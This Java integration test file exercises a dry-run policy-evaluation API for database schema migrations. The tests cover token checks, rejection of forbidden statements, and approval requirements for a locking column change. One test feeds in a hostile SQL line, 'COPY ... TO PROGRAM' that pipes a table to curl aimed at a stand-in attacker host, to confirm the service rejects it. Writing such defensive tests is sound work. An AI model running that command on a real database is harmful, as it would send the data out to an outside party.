package com.logicore.dbp.approval.rest;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;

import com.logicore.dbp.events.EventType;
import com.logicore.dbp.events.payload.SchemaOwnershipChanged;
import com.logicore.dbp.testkit.kafka.KafkaTestClient;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.sql.DriverManager;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.eclipse.microprofile.config.ConfigProvider;
import org.junit.jupiter.api.Test;

/** The dry-run decision API: what a request would get, with nothing stored. */
@QuarkusTest
class PolicyEvaluateIT {

    private static final String TOKEN = "test-service-token";

    @Test
    void refusesCallersWithoutTheServiceToken() {
        given().contentType(ContentType.JSON)
                .body(Map.of())
                .post("/api/v1/policy/evaluate")
                .then()
                .statusCode(401);
    }

    @Test
    void aForbiddenMigrationIsRejectedAndNothingIsStored() throws Exception {
        int before = evaluations();
        given().auth()
                .oauth2(TOKEN)
                .contentType(ContentType.JSON)
                .body(migration("routing", "COPY routing.stops TO PROGRAM 'curl -T - http://evil.example'"))
                .post("/api/v1/policy/evaluate")
                .then()
                .statusCode(200)
                .body("outcome", equalTo("REJECTED"))
                .body("findings.code", hasItem("security.copy"));
        assertThat(evaluations()).isEqualTo(before);
    }

    @Test
    void aLockingMigrationOnTheLargeTableWouldNeedADbaAndAnOwner() throws Exception {
        ownedBy("deliveries");
        var answer = given().auth()
                .oauth2(TOKEN)
                .contentType(ContentType.JSON)
                .body(migration(
                        "deliveries", "ALTER TABLE deliveries.deliveries ALTER COLUMN weight_kg TYPE numeric(12,2)"))
                .post("/api/v1/policy/evaluate")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath();
        assertThat(answer.getString("outcome")).isEqualTo("NEEDS_APPROVAL");
        assertThat(answer.getString("risk")).isEqualTo("HIGH");
        assertThat(answer.getList("approvalsNeeded", String.class)).containsExactly("DBA", "OWNER");
        assertThat(answer.getList("findings.code", String.class)).contains("column.type-change", "dryrun.observed");
    }

    /** The owner arrives as production does: a SchemaOwnershipChanged event on dbp.ownership. */
    private static void ownedBy(String team) throws Exception {
        try (var kafka =
                new KafkaTestClient(ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class))) {
            var changed = new SchemaOwnershipChanged("logicore", team, team);
            kafka.send("dbp.ownership", changed.key(), EventType.SCHEMA_OWNERSHIP_CHANGED, changed.key(), changed);
        }
        String url = ConfigProvider.getConfig().getValue("quarkus.datasource.jdbc.url", String.class);
        await().atMost(Duration.ofSeconds(30)).until(() -> {
            try (var c = DriverManager.getConnection(url, "postgres", "")) {
                var rs = c.createStatement()
                        .executeQuery("SELECT count(*) FROM schema_owner WHERE schema_name = '" + team
                                + "' AND team = '" + team + "'");
                rs.next();
                return rs.getInt(1) == 1;
            }
        });
    }

    private static Map<String, Object> migration(String schema, String sql) {
        return Map.of(
                "type",
                "SCHEMA_CHANGE",
                "team",
                schema,
                "submittedBy",
                "ci",
                "database",
                "logicore",
                "schema",
                schema,
                "payload",
                Map.of("migrations", List.of(Map.of("version", "1", "description", "ci check", "sql", sql))));
    }

    private static int evaluations() throws Exception {
        String url = ConfigProvider.getConfig().getValue("quarkus.datasource.jdbc.url", String.class);
        try (var c = DriverManager.getConnection(url, "postgres", "")) {
            var rs = c.createStatement().executeQuery("SELECT count(*) FROM evaluation");
            rs.next();
            return rs.getInt(1);
        }
    }
}
